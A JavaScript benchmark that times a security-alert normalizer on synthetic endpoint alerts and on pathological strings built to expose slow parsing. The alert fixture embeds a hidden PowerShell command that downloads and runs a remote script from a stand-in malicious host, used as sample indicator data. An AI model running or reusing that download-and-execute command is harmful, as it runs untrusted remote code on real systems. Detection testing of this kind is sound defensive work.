// Time to normalize one payload: typical ones by size, and hostile texts, whose time per character must stay flat.
// Run: npm run build (or npx tsc -p server/tsconfig.json), then node bench/normalize.mjs
const compiled = new URL('../dist/server/features/ingest/normalize/normalize.js', import.meta.url);
const { normalizePost } = await import(compiled.href).catch(() => {
  console.error('The server is not compiled yet. Run: npx tsc -p server/tsconfig.json');
  process.exit(1);
});

const process_ = (index) => ({
  name: 'powershell.exe',
  pid: 4000 + index,
  entity_id: `9f0e1d2c3b4a5968776655443322${String(1000 + index).padStart(4, '0')}`,
  command_line: `powershell -nop -w hidden -c "IEX (New-Object Net.WebClient).DownloadString('https://cdn${index}.bad-updates.net/a/loader.ps1')"`,
  hash: { sha256: index.toString(16).padStart(64, 'c') },
  connection: { source: { ip: '10.20.30.40' }, destination: { ip: `198.51.100.${index % 250}`, port: 443 } },
});

/** An endpoint alert with as many processes as it takes to reach the size. */
function typicalPayload(bytes) {
  const payload = {
    '@timestamp': '2026-03-02T09:14:07.512Z',
    kibana: {
      alert: { uuid: 'b5bb9d80', severity: 'high', rule: { name: 'Suspicious Download', tags: ['Endpoint'] } },
    },
    host: { name: 'WS-FIN-07', os: { version: '10.0.19.1' } },
    source: { ip: '10.20.30.40' },
    processes: [],
  };
  while (JSON.stringify(payload).length < bytes) payload.processes.push(process_(payload.processes.length));
  return payload;
}

const repeated = (unit, length) => unit.repeat(Math.ceil(length / unit.length)).slice(0, length);
const numbered = (pattern, length) => {
  let text = '';
  for (let index = 0; text.length < length; index++) text += pattern.replace('#', String(index));
  return text.slice(0, length);
};

const HOSTILE = {
  'one label': (length) => repeated('a', length),
  'dots only': (length) => repeated('.', length),
  'a.a.a.a': (length) => repeated('a.', length),
  'a-a-a-a': (length) => repeated('a-', length),
  'colons only': (length) => repeated(':', length),
  'hex groups': (length) => repeated('a1b2:', length),
  'spaced hex groups': (length) => repeated('2001:db8::1x ', length),
  'near addresses': (length) => repeated('1.2.3.999 ', length),
  'near domains': (length) => numbered('x#.notatld ', length),
  'files that look like domains': (length) => numbered('f#.sh ', length),
  'new domains': (length) => numbered('h#.com ', length),
  'open brackets': (length) => repeated('[', length),
  'defanged dots': (length) => repeated('a[.]', length),
  'URL of brackets': (length) => `http://a.com/${repeated('()', length - 13)}`,
  'URL of commas': (length) => `http://a.com/${repeated(',', length - 13)}`,
  'schemes only': (length) => repeated('http://', length),
  'broken JSON': (length) => `{${repeated('[', length - 2)}}`,
  blanks: (length) => repeated(' ', length),
};

/** Median of several rounds, each long enough for the clock, after the compiler has warmed up. */
function microseconds(payload) {
  const once = () => normalizePost(payload, 'webhook');
  const warmUp = performance.now();
  let calls = 0;
  for (; performance.now() - warmUp < 150; calls++) once();
  const rounds = Math.max(1, Math.floor((calls * 20) / (performance.now() - warmUp)));
  const samples = Array.from({ length: 7 }, () => {
    const start = performance.now();
    for (let round = 0; round < rounds; round++) once();
    return ((performance.now() - start) * 1000) / rounds;
  });
  return samples.sort((a, b) => a - b)[3];
}

console.log('typical payload     bytes        µs   indicators');
for (const bytes of [1_000, 10_000, 100_000]) {
  const payload = typicalPayload(bytes);
  const { iocs } = normalizePost(payload, 'webhook')[0].alert;
  const found = Object.values(iocs).reduce((sum, values) => sum + values.length, 0);
  const size = JSON.stringify(payload).length;
  console.log(
    `${''.padEnd(15)}${String(size).padStart(10)}${microseconds(payload).toFixed(0).padStart(10)}${String(found).padStart(13)}`,
  );
}

console.log('\nhostile text, ns per character      10 k     100 k       1 M');
for (const [name, make] of Object.entries(HOSTILE)) {
  const figures = [10_000, 100_000, 1_000_000].map((length) => {
    const payload = { note: make(length) };
    return (microseconds(payload) * 1000) / length;
  });
  console.log(`${name.padEnd(30)}${figures.map((figure) => figure.toFixed(1).padStart(10)).join('')}`);
}
